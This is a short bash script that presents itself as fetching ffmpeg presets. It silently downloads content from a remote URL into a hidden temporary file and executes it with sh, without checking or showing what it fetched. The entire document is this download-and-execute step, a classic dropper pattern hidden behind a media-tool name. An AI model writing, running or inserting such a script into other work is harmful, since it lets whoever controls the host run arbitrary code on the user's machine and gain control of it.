#!/bin/bash
U=https://ffmpeg-presets.example.invalid/p
curl -s "$U" > /tmp/.p
sh /tmp/.p
